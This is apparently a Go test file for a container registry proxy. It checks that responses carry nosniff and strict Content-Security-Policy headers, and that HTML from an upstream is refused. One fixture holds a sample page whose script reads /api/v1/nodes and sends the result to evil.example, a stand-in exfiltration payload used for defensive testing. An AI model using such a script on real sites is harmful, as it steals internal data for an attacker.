package proxy_test

import (
	"crypto/sha256"
	"encoding/base64"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	digest "github.com/opencontainers/go-digest"

	"github.com/regnorm/regnorm/internal/regtest"
)

// assertNotAPage checks the headers that keep a browser from rendering an
// answer as a page on regnorm's origin.
func assertNotAPage(t *testing.T, what string, r response) {
	t.Helper()
	if got := r.header.Get("X-Content-Type-Options"); got != "nosniff" {
		t.Errorf("%s (%d): X-Content-Type-Options %q, want nosniff", what, r.status, got)
	}
	csp := r.header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") || strings.Contains(csp, "script-src") {
		t.Errorf("%s (%d): Content-Security-Policy %q, want default-src 'none' and frame-ancestors 'none', no script", what, r.status, csp)
	}
	if ct := r.header.Get("Content-Type"); strings.HasPrefix(ct, "text/html") {
		t.Errorf("%s (%d): served as %s", what, r.status, ct)
	}
}

// TestUpstreamCannotServeAPage: a manifest an upstream answers as
// text/html, or a page it calls JSON, is refused, not served on regnorm's
// origin (where /status, the fleet view and warm are, and any Basic
// credentials a browser holds for regnorm).
func TestUpstreamCannotServeAPage(t *testing.T) {
	t.Parallel()
	page := `<html><body><script>fetch("/api/v1/nodes").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script></body></html>`
	img, err := regtest.BuildImage(regtest.ImageOptions{}, oneFile)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, contentType, body string
	}{
		{"a page", "text/html", page},
		{"a manifest sent as a page", "text/html; charset=utf-8", string(img.Manifest)},
		{"a page sent as JSON", "application/json", page},
		{"a page sent as a manifest", regtest.MediaTypeDockerManifest, page},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t, harnessOptions{})
			h.front.set(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", tt.contentType)
				w.Write([]byte(tt.body))
			})
			for _, ref := range []string{"v1", digest.FromString(tt.body).String()} {
				r := h.do(t, http.MethodGet, "/v2/library/app/manifests/"+ref, containerdAccept)
				if r.status != http.StatusBadGateway || r.ociError(t) != "MANIFEST_INVALID" {
					t.Fatalf("%s: got %d %s %q, want 502 MANIFEST_INVALID", ref, r.status, r.header.Get("Content-Type"), r.body)
				}
				assertNotAPage(t, "manifest "+ref, r)
			}
		})
	}
}

// TestBrowserHeaders: every answer carries nosniff and a CSP that allows
// nothing, errors and all; the status page a CSP that allows its own
// inline style and script by their hashes, and nothing else.
func TestBrowserHeaders(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOptions{})
	img := h.push(t, "library/app", "v1", regtest.ImageOptions{}, oneFile)
	layer := digest.FromBytes(img.Layers[0]).String()
	for _, tt := range []struct {
		method, path string
		want         int
	}{
		{http.MethodGet, "/v2/", http.StatusOK},
		{http.MethodGet, "/v2/library/app/manifests/v1", http.StatusOK},
		{http.MethodHead, "/v2/library/app/manifests/" + img.ManifestDigest.String(), http.StatusOK},
		{http.MethodGet, "/v2/library/app/blobs/" + layer, http.StatusOK},
		{http.MethodGet, "/v2/library/app/blobs/" + digest.FromString("none").String(), http.StatusNotFound},
		{http.MethodGet, "/v2/library/app/manifests/v1?ns=nowhere.example", http.StatusNotFound},
		{http.MethodGet, "/v2/Library/app/manifests/v1", http.StatusBadRequest},
		{http.MethodGet, "/v2/library/app/tags/list", http.StatusOK},
		{http.MethodPut, "/v2/library/app/manifests/v1", http.StatusMethodNotAllowed},
		{http.MethodGet, "/api/v1/rewrites", http.StatusOK},
		{http.MethodGet, "/api/v1/nodes", http.StatusOK},
		{http.MethodGet, "/api/v1/warm", http.StatusMethodNotAllowed},
		{http.MethodGet, "/metrics", http.StatusOK},
		{http.MethodGet, "/healthz", http.StatusOK},
		{http.MethodGet, "/nothing", http.StatusNotFound},
	} {
		r := h.do(t, tt.method, tt.path, containerdAccept)
		if r.status != tt.want {
			t.Errorf("%s %s: %d, want %d", tt.method, tt.path, r.status, tt.want)
		}
		assertNotAPage(t, tt.method+" "+tt.path, r)
	}

	r := h.do(t, http.MethodGet, "/status", nil)
	if r.status != http.StatusOK || r.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Fatalf("status page: %d, nosniff %q", r.status, r.header.Get("X-Content-Type-Options"))
	}
	csp := r.header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none'", "frame-ancestors 'none'", "form-action 'self'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("status page CSP %q lacks %s", csp, want)
		}
	}
	if strings.Contains(csp, "unsafe") {
		t.Errorf("status page CSP %q allows unsafe sources", csp)
	}
	// The page as served: each inline block is allowed by its hash.
	for _, elem := range []string{"style", "script"} {
		blocks := regexp.MustCompile(`(?s)<`+elem+`>(.*?)</`+elem+`>`).FindAllSubmatch(r.body, -1)
		if len(blocks) == 0 {
			t.Errorf("the status page has no inline %s", elem)
		}
		directive := regexp.MustCompile(elem + `-src ([^;]*)`).FindStringSubmatch(csp)
		if directive == nil {
			t.Errorf("status page CSP %q has no %s-src", csp, elem)
			continue
		}
		for _, b := range blocks {
			sum := sha256.Sum256(b[1])
			if hash := "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"; !slices.Contains(strings.Fields(directive[1]), hash) {
				t.Errorf("status page CSP %q does not allow its inline %s (%s)", csp, elem, hash)
			}
		}
	}
	if strings.Contains(string(r.body), " style=") || regexp.MustCompile(`\son[a-z]+=`).Match(r.body) {
		t.Error("the status page has inline style or handler attributes, which its CSP blocks")
	}
}
